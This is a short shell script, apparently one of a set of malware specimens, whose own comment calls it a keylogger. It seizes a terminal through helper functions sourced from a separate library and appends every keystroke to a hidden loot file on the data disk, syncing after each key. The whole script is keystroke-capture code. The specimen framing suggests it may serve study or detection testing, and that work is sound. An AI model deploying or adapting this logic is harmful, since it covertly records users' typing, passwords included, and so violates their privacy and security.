# Keylogger: every key appended to a hidden file on the data disk, synced at once.
. /etc/enmei/specimens/lib.sh
log_key() { printf '%s' "${1:-|}" >> "$LOOT"; sync; }
take_tty
each_key log_key
